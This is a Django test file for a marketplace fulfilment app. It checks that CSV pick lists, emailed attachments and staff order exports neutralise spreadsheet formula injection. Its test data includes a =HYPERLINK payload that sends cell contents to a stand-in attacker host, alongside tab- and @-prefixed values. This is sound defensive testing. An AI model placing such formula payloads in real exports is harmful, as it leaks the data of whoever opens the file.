"""Issue 11.9: a buyer's basket name or a vendor's title never becomes a spreadsheet formula."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.urls import reverse
from oscar.core.loading import get_model

from fulfilment import services
from fulfilment.emails import order_pick_lists_send
from fulfilment.models import VendorOrder
from fulfilment.tests.factories import place_order

Product = get_model("catalogue", "Product")
StockRecord = get_model("partner", "StockRecord")

EVIL_BASKET = '=HYPERLINK("http://angriber.example/?d="&A1;"Klik her")'
TAB_TITLE = "\tEspresso Morgenrøde"


def _rows(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def assert_formula_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula-like cell {cell!r}"


@pytest.fixture
def hostile_order(demo_vendors):
    record = StockRecord.objects.get(partner_sku="RR-KAF-01")
    Product.objects.filter(pk=record.product_id).update(title=TAB_TITLE)
    order = place_order(baskets=[(EVIL_BASKET, [("RR-KAF-01", 2), ("HF-VIN-01", 1)])])
    services.order_split(order_id=order.pk)
    return order


@pytest.mark.django_db
def test_pick_list_csv_download_neutralises_a_formula_basket_name_and_a_leading_tab(hostile_order, client):
    vo = VendorOrder.objects.get(order=hostile_order, partner__code="ristet-ro")
    client.force_login(get_user_model().objects.get(email="ristet-ro@faelleskurv.example"))

    rows = _rows(client.get(reverse("fulfilment:pick-list-csv", args=[vo.pk])).content)

    assert rows[1][2] == "'" + TAB_TITLE
    assert rows[1][3] == "'" + EVIL_BASKET
    assert_formula_safe(rows)


@pytest.mark.django_db
def test_pick_list_csv_e_mail_attachment_is_formula_safe_too(hostile_order):
    order_pick_lists_send(order_id=hostile_order.pk)

    coffee = next(m for m in mail.outbox if "ristet-ro@faelleskurv.example" in m.to)
    name, content, mimetype = coffee.attachments[0]
    rows = _rows(content)

    assert mimetype == "text/csv"
    assert rows[1][2] == "'" + TAB_TITLE and rows[1][3] == "'" + EVIL_BASKET
    assert_formula_safe(rows)


@pytest.mark.django_db
def test_staff_orders_csv_export_is_formula_safe(hostile_order, admin_client):
    hostile_order.shipping_address.last_name = "@SUM(1+1)"
    hostile_order.shipping_address.first_name = ""
    hostile_order.shipping_address.save()

    response = admin_client.get("/da/dashboard/orders/?response_format=csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert any("'@SUM(1+1)" in row for row in rows)
    assert_formula_safe(rows)
